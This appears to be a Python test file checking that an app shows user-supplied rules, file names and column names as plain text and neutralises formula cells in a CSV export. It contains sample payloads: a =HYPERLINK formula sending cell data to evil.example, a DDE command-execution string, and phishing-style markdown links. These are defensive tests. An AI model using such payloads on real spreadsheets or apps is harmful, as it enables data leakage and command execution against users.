"""Nothing injectable in the app (issue 54): a link's rule, a file name and a column name are shown as text — no
link, no image — and the Population page's "Show data" CSV neutralises ids a spreadsheet would run as formulas."""
from __future__ import annotations

import csv
import io
import re
from functools import partial

import app_support
import pytest
from app_support import navigation_mode  # noqa: F401 (autouse fixture)

from lmdk.exports.cells import TRIGGERS
from ui.charts import alt_text
from ui.session import state

open_page = partial(app_support.open_page, "pages/population.py", 90)
HYPERLINK = '=HYPERLINK("https://evil.example/?"&A2,"Open")'
CALC = "+cmd|' /C calc'!A0"


def messages(at) -> str:
    """Every message body the page wrote (markdown source, as the browser receives it)."""
    kinds = ("error", "warning", "info", "success", "caption", "markdown", "toast")
    return "\n".join(str(e.value) for kind in kinds for e in at.get(kind))


def inert(body: str) -> bool:
    """No link or image can form: every ``](`` and ``![`` is escaped, no bare URL survives unbroken."""
    return not re.search(r"(?<!\\)\]\s*\(", body) and not re.search(r"(?<!\\)!\\?\[(?<!\\\[)", body) \
        and "https://evil" not in body


@pytest.mark.parametrize("rule", ["times:x [Session expired - sign in](https://evil.example/login)",
                                  "percentile:x ![](https://evil.example/pixel.png)"])
def test_a_link_rule_with_markdown_is_shown_as_text(rule):
    at = open_page(pop_users="10", pop_n="100", pop_rule=rule)
    body = messages(at)  # refused unread, or quoted as text: before, [Session expired - sign in](…) was a link
    assert inert(body), body


def test_a_typed_rule_with_markdown_is_shown_as_text():
    at = open_page(pop_users="10", pop_n="100")
    at.text_input(key="pop_rule_text").set_value("below:x [Sign in](https://evil.example/login)").run()
    body = messages(at)
    assert "evil" in body and inert(body), body


def test_a_column_name_with_markdown_is_shown_as_text():
    at = open_page(pop_src="upload")
    at.file_uploader(key="pop_file").set_value(
        ("meters.csv", b"user,[c](https://evil.example/c),value\n1,2,3\n", "text/plain")).run()
    body = " ".join(str(e.value) for e in at.error)
    assert "evil" in body and inert(body), body  # before: the column name was a link in the error box


def uploaded(users: list[str]):
    rows = "".join(f'"{u.replace(chr(34), chr(34) * 2)}",2024-01-01 {h:02d}:00,{h % 5}\n'
                   for u in users for h in range(24))
    at = open_page(pop_src="upload")
    return at.file_uploader(key="pop_file").set_value(
        ("[x](https://evil.example/f).csv", ("user,timestamp,value\n" + rows).encode(), "text/plain")).run()


def test_a_file_name_with_markdown_is_shown_as_text():
    at = uploaded(["a", "b"])
    assert not at.exception
    body = messages(at)
    assert "evil" in body and inert(body), body


def test_the_population_show_data_csv_neutralises_formula_ids():
    at = uploaded([HYPERLINK, CALC, "alice"])
    at.session_state[alt_text.OPEN_PREFIX + "pop_mae"] = True
    at.run()
    assert not at.exception
    held = at.session_state[state.DOWNLOAD_FIGURES][f"dl_{alt_text.KEY_PREFIX}pop_mae"]
    text = held.content()
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'" + HYPERLINK in cells and "'" + CALC in cells  # before: both written verbatim
    assert not [c for c in cells if c[:1] in TRIGGERS and not re.fullmatch(r"[+-][\d.eE+-]+", c)]
